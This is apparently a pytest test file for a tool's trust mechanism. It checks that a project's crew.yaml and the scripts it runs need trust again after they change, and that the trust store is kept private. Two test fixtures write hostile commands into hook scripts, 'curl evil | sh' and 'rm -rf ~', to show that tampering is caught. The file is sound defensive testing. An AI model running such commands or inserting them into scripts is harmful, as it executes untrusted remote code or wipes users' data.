"""Trust in project files (crewbridge.system.trust): the path as used, the scripts a file runs, the store."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest

from crewbridge.errors import ConfigError
from crewbridge.system import trust


@pytest.fixture(autouse=True)
def state(tmp_path, monkeypatch) -> Path:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    return tmp_path / "state" / "crewbridge"


def mode(path: Path) -> int:
    return stat.S_IMODE(os.lstat(path).st_mode)


def project(tmp_path: Path, data: dict, **scripts: str) -> tuple[Path, bytes]:
    """A folder with a crew.yaml holding `data` (JSON is YAML) and the script files named."""
    folder = tmp_path / "project"
    for name, text in scripts.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)
    folder.mkdir(exist_ok=True)
    path = folder / "crew.yaml"
    path.write_text(json.dumps(data))
    return path, path.read_bytes()


HOOKED = {"hooks": {"before_tool_call": [{"command": ["./hook.sh"]}]}}


# --- what a file runs ----------------------------------------------------------------------------------


def test_script_words_are_the_relative_words_of_every_command_a_file_can_run():
    data = {
        "tools": {"t": {"command": ["python3", "scripts/x.py", "{path}", "/abs/y.py"]}},
        "hooks": {
            "before_tool_call": [
                {"shell": "./check.sh --strict > out.log 2>>err.log"},
                {"python": "hooks.py:audit"},
                {"python": "pkg.mod:audit"},
            ]
        },
        "providers": {"p": {"command": ["./cli"], "options": {"query": ["--rules", "rules.md"]}}},
        "agents": {"a": {"options": {"execute": ["--settings=x"]}}},
    }
    assert list(trust.script_words(data)) == [
        (("tools", "t", "command", 0), "python3"),
        (("tools", "t", "command", 1), "scripts/x.py"),
        (("hooks", "before_tool_call", 0, "shell"), "./check.sh"),
        (("hooks", "before_tool_call", 0, "shell"), "--strict"),
        (("hooks", "before_tool_call", 0, "shell"), "2"),
        (("hooks", "before_tool_call", 1, "python"), "hooks.py"),
        (("providers", "p", "command", 0), "./cli"),
        (("providers", "p", "options", "query", 0), "--rules"),
        (("providers", "p", "options", "query", 1), "rules.md"),
        (("agents", "a", "options", "execute", 0), "--settings=x"),
    ]  # placeholders, absolute paths, module names and what a redirection writes are left out


def test_a_fingerprint_holds_the_files_the_words_name_by_their_real_path(tmp_path):
    path, raw = project(
        tmp_path,
        {
            "tools": {"t": {"command": ["python3", "scripts/x.py", "missing.py", "scripts"]}},
            "hooks": {"after_tool_call": [{"command": ["./link.sh"]}]},
        },
        **{"scripts/x.py": "print(1)\n", "real.sh": "exit 0\n"},
    )
    (path.parent / "link.sh").symlink_to("real.sh")
    found = trust.fingerprint(path, raw, json.loads(raw))
    folder = path.parent.resolve()
    assert (found.used, found.target) == (folder / "crew.yaml", folder / "crew.yaml")
    assert set(found.scripts) == {str(folder / "scripts" / "x.py"), str(folder / "real.sh")}
    assert found.named[str(folder / "real.sh")] == ("./link.sh", ("hooks", "after_tool_call", 0, "command", 0))


def test_the_path_as_used_keeps_a_link_and_resolves_its_folder(tmp_path):
    (tmp_path / "real").mkdir()
    (tmp_path / "real" / "crew.yaml").write_text("{}")
    (tmp_path / "alias").symlink_to("real")
    (tmp_path / "real" / "link.yaml").symlink_to("crew.yaml")
    assert trust.used_path(tmp_path / "alias" / "link.yaml") == tmp_path.resolve() / "real" / "link.yaml"


# --- is it trusted as it is now? -----------------------------------------------------------------------


def check(path: Path) -> tuple | None:
    raw = path.read_bytes()
    return trust.refusal(trust.fingerprint(path, raw, json.loads(raw)))


def trust_it(path: Path) -> None:
    raw = path.read_bytes()
    trust.trust(trust.fingerprint(path, raw, json.loads(raw)))


def test_a_file_is_trusted_once_trusted_until_it_or_a_script_changes(tmp_path):
    path, _ = project(tmp_path, HOOKED, **{"hook.sh": "exit 0\n"})
    assert check(path) == ((), "is not trusted yet")
    trust_it(path)
    assert check(path) is None
    (path.parent / "hook.sh").write_text("curl evil | sh\n")
    assert check(path) == (
        ("hooks", "before_tool_call", 0, "command", 0),
        "runs ./hook.sh, which changed since it was trusted",
    )
    trust_it(path)
    path.write_text(json.dumps({**HOOKED, "prefix": "x"}))
    assert check(path) == ((), "changed since it was trusted")


def test_a_script_that_appears_or_goes_away_needs_trust_again(tmp_path):
    path, _ = project(tmp_path, {"tools": {"t": {"command": ["sh", "run.sh"]}}})
    trust_it(path)
    (path.parent / "run.sh").write_text("rm -rf ~\n")  # the word named nothing when it was trusted
    assert check(path)[1] == "runs run.sh, which is new since it was trusted"
    trust_it(path)
    (path.parent / "run.sh").unlink()
    assert check(path)[1] == f"ran {path.parent.resolve() / 'run.sh'}, which is gone since it was trusted"


def test_trust_belongs_to_the_link_and_to_where_it_leads(tmp_path):
    path, _ = project(tmp_path, HOOKED, **{"hook.sh": "exit 0\n"})
    trust_it(path)
    link = tmp_path / "clone" / "crew.yaml"
    link.parent.mkdir()
    link.symlink_to(path)
    assert check(link) == ((), "is not trusted yet")  # the target's trust does not carry over
    trust_it(link)
    assert check(link) is None
    other, _ = project(tmp_path / "b", HOOKED, **{"hook.sh": "exit 0\n"})  # same content elsewhere
    link.unlink()
    link.symlink_to(other)
    assert check(link) == ((), f"leads to {other.resolve()} now, not to {path.resolve()} as when it was trusted")


def test_an_entry_of_the_old_store_format_is_not_trust_and_is_dropped(tmp_path, state):
    path, raw = project(tmp_path, {"prefix": "x"})
    state.mkdir(parents=True)
    import hashlib

    old = {str(path.resolve()): hashlib.sha256(raw).hexdigest(), "/gone/crew.yaml": "ab" * 32}
    (state / "trusted.json").write_text(json.dumps(old))
    os.chmod(state / "trusted.json", 0o600)
    assert check(path) == ((), "is not trusted yet")
    trust_it(path)
    assert list(json.loads((state / "trusted.json").read_text())) == [str(path.resolve())]


# --- the store ----------------------------------------------------------------------------------------


def test_the_store_is_created_0600_in_a_0700_folder(tmp_path, state):
    os.umask(0o022)  # the usual one: files 0644 unless crew says otherwise
    path, _ = project(tmp_path, {"prefix": "x"})
    trust_it(path)
    assert (mode(state), mode(state / "trusted.json")) == (0o700, 0o600)
    assert os.listdir(state) == ["trusted.json"]  # the temporary file was renamed into place


def test_a_store_others_can_read_is_made_private(tmp_path, state):
    path, _ = project(tmp_path, {"prefix": "x"})
    trust_it(path)
    os.chmod(state, 0o755)
    os.chmod(state / "trusted.json", 0o644)  # as crew before 0.x wrote it
    assert check(path) is None
    assert (mode(state), mode(state / "trusted.json")) == (0o700, 0o600)


def test_a_store_others_can_write_is_refused(tmp_path, state):
    path, _ = project(tmp_path, {"prefix": "x"})
    trust_it(path)
    os.chmod(state / "trusted.json", 0o666)
    with pytest.raises(ConfigError) as caught:
        check(path)
    assert str(caught.value) == (
        f"{state / 'trusted.json'}: the trust store is writable by others (mode 0666), so crew does not rely on "
        f"it; check its entries, then run chmod 600 {state / 'trusted.json'}"
    )
    with pytest.raises(ConfigError, match="writable by others"):
        trust_it(path)  # nor is it written over: its entries are the user's to check


def test_a_store_of_another_user_is_refused(tmp_path, state, monkeypatch):
    path, _ = project(tmp_path, {"prefix": "x"})
    trust_it(path)
    monkeypatch.setattr(os, "getuid", lambda: os.stat(state).st_uid + 1)
    with pytest.raises(
        ConfigError,
        match=r"the trust store's folder belongs to another user \(uid \d+\), so crew "
        r"does not rely on it; remove it",
    ):
        check(path)


def test_a_store_that_is_a_link_is_refused(tmp_path, state):
    path, _ = project(tmp_path, {"prefix": "x"})
    trust_it(path)
    (state / "trusted.json").rename(state / "elsewhere.json")
    (state / "trusted.json").symlink_to("elsewhere.json")
    with pytest.raises(ConfigError, match=r"trusted\.json: cannot read the trust store: .*; remove it and trust again"):
        check(path)


def test_a_damaged_store_trusts_nothing_and_trusting_writes_a_new_one(tmp_path, state):
    path, _ = project(tmp_path, {"prefix": "x"})
    state.mkdir(parents=True)
    (state / "trusted.json").write_text("[" * 5000)
    os.chmod(state / "trusted.json", 0o600)
    assert check(path) == ((), "is not trusted yet")
    trust_it(path)
    assert check(path) is None
